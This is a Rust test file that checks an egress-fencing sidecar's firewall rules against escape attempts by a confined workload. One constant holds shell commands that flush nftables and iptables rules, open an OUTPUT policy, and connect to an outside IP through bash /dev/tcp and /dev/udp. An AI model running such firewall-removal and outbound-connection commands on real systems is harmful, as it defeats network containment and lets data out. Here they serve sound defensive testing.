//! The rules hold whatever becomes of the sidecar, while they are written anew, and for who is root of a namespace of his own.

use std::{
    io::Write,
    net::{IpAddr, TcpStream, UdpSocket},
    process::Command,
    sync::atomic::{AtomicBool, AtomicUsize, Ordering},
    thread,
    time::Duration,
};

use ringfence_tests::{
    Canary, DEADLINE, Net, eventually,
    netns::{Namespace, POD_V4},
    pod::{SIDECAR, WORKLOAD},
};
use rustix::process::Signal;

use super::world::{FOREIGN_V4, FOREIGN_V6, World, net};

/// How often what is to go wrong goes wrong.
const ROUNDS: usize = 6;

/// The workload tries to get out by TCP and UDP, over and over, while `work` goes on. Yields how often it tried.
fn besieged(world: &World, work: impl FnOnce()) -> usize {
    let (is_over, tries) = (AtomicBool::new(false), AtomicUsize::new(0));
    let until_tried = |more: usize| {
        let before = tries.load(Ordering::Relaxed);
        eventually("the workload tries", || (tries.load(Ordering::Relaxed) >= before + more).then_some(()));
    };
    thread::scope(|scope| {
        for address in [FOREIGN_V4, FOREIGN_V6] {
            let (is_over, tries) = (&is_over, &tries);
            scope.spawn(move || {
                world.pod.net.pod.inside_as(WORKLOAD, || {
                    while !is_over.load(Ordering::Relaxed) {
                        try_once(address);
                        tries.fetch_add(1, Ordering::Relaxed);
                    }
                });
            });
        }
        until_tried(4);
        work();
        until_tried(4);
        is_over.store(true, Ordering::Relaxed);
    });
    tries.into_inner()
}

fn try_once(address: IpAddr) {
    let any = if address.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any).unwrap();
    for port in [443, 53] {
        let _ = socket.send_to(b"canary", (address, port));
    }
    if let Ok(mut stream) = TcpStream::connect_timeout(&(address, 443).into(), Duration::from_secs(1)) {
        let _ = stream.write_all(b"\0\x01canary");
    }
}

#[test]
fn nothing_gets_out_while_the_sidecar_ends_and_starts() {
    let Some(world) = World::new() else { return };
    let canary = world.canary();
    let tries = besieged(&world, || {
        for round in 0..ROUNDS {
            let mut sidecar = world.pod.start().ready();
            match round % 3 {
                0 => sidecar.process.kill(),
                1 => drop(sidecar.process.terminate()),
                _ => {
                    // It hangs: the kernel goes on taking connections that nobody reads.
                    sidecar.process.signal(Signal::STOP);
                    sidecar.process.kill();
                }
            }
        }
    });
    println!("{tries} tries while the sidecar was started and ended {ROUNDS} times");
    world.nothing_arrived(&canary, "while the sidecar is killed, ended and started");
}

#[test]
fn nothing_gets_out_while_the_rules_are_written_anew() {
    let Some(world) = World::started() else { return };
    let canary = world.canary();
    let tries = besieged(&world, || {
        for _ in 0..ROUNDS {
            let installed = world.pod.capture("install");
            assert!(installed.status.success(), "{installed:?}");
        }
    });
    println!("{tries} tries while the rules were installed {ROUNDS} times");
    world.nothing_arrived(&canary, "while the rules are written anew");
}

/// Root of a user namespace has every capability there, and none over the network namespace that it came with.
const AS_ROOT_OF_A_USER_NAMESPACE: &str = "
    nft delete table inet ringfence; nft flush ruleset; iptables -P OUTPUT ACCEPT; iptables -t nat -F
    ip link add link eth0 name way type macvlan; ip route add 45.33.32.156 dev eth0
    setpriv --reuid 1337 true && setpriv --reuid 1337 bash -c 'exec 3<>/dev/tcp/45.33.32.156/443'
    bash -c 'exec 3<>/dev/tcp/45.33.32.156/443 && echo -e \"\\0canary\" >&3 && cat <&3'
    bash -c 'echo canary >/dev/udp/45.33.32.156/443'
    unshare --net bash -c 'ip link set lo up; echo canary >/dev/udp/45.33.32.156/443'
    true";

#[test]
fn root_of_a_user_namespace_gets_no_further() {
    let attempt = |pod: &Namespace| {
        let mut command = pod.command_as(WORKLOAD, "unshare");
        let output = command.args(["--user", "--map-root-user", "bash", "-c", AS_ROOT_OF_A_USER_NAMESPACE]).output().unwrap();
        assert!(output.status.success(), "a user may make namespaces here: {output:?}");
    };
    let Some(bare) = net() else { return };
    let canary = Canary::new(&bare);
    attempt(&bare.pod);
    assert!(!canary.seen(SIDECAR).is_empty(), "without rules, the canary sees it");
    let Some(world) = World::started() else { return };
    let canary = world.canary();
    attempt(&world.pod.net.pod);
    world.nothing_arrived(&canary, "from a user namespace");
    rules_hold(&world);
}

#[track_caller]
fn rules_hold(world: &World) {
    let verified = world.pod.capture("verify");
    assert!(verified.status.success(), "{}{}", String::from_utf8_lossy(&verified.stdout), String::from_utf8_lossy(&verified.stderr));
}

/// A namespace behind the pod, as a workload with a container engine of its own would have: the pod forwards for it.
struct Behind<'a>(&'a Namespace);

impl<'a> Behind<'a> {
    fn new(net: &'a Net, inner: &'a Namespace) -> Self {
        net.pod.ip(&["link", "add", "behind", "type", "veth", "peer", "name", "eth0", "netns", inner.name()]);
        net.pod.ip(&["address", "add", "10.78.0.1/24", "dev", "behind"]);
        net.pod.ip(&["link", "set", "behind", "up"]);
        inner.ip(&["address", "add", "10.78.0.2/24", "dev", "eth0"]);
        inner.ip(&["link", "set", "eth0", "up"]);
        inner.ip(&["route", "add", "default", "via", "10.78.0.1"]);
        net.pod.inside(|| std::fs::write("/proc/sys/net/ipv4/ip_forward", "1").unwrap());
        Self(inner)
    }

    /// Waits until the pod has taken the packet, by an answer that it gives itself.
    fn attempt(&self) {
        self.0.inside(|| {
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.send_to(b"canary", (FOREIGN_V4, 443)).unwrap();
            let _ = TcpStream::connect_timeout(&(FOREIGN_V4, 443).into(), Duration::from_secs(1));
            // Nobody listens there; that it is refused shows that what came before has passed.
            let refused = TcpStream::connect_timeout(&(POD_V4, 1).into(), DEADLINE).unwrap_err();
            assert_eq!(refused.kind(), std::io::ErrorKind::ConnectionRefused);
        });
    }
}

#[test]
fn the_pod_forwards_for_nobody() {
    let Some(bare) = net() else { return };
    let inner = Namespace::new("behind");
    Behind::new(&bare, &inner).attempt();
    let canary = Canary::new(&bare);
    Behind(&inner).attempt();
    assert!(!canary.seen(SIDECAR).is_empty(), "without rules, the canary sees it");
    let Some(world) = World::started() else { return };
    let canary = world.canary();
    let inner = Namespace::new("behind");
    Behind::new(&world.pod.net, &inner).attempt();
    world.nothing_arrived(&canary, "from behind the pod");
}

/// What is installed may be removed by root of the pod's own namespace, and by nobody else.
#[test]
fn the_workload_does_not_take_the_rules_away() {
    let Some(world) = World::started() else { return };
    let binary = ringfence_tests::binaries::binary("ringfence-proxy");
    let mut attempts: Vec<Command> = vec![world.pod.workload(binary.to_str().unwrap()), world.pod.workload("nft")];
    attempts[0].args(["capture", "remove", "--state"]).arg(world.pod.site.beside().join("capture"));
    attempts[1].args(["flush", "ruleset"]);
    for mut attempt in attempts {
        let output = attempt.output().unwrap();
        assert!(!output.status.success(), "{output:?}");
    }
    rules_hold(&world);
}
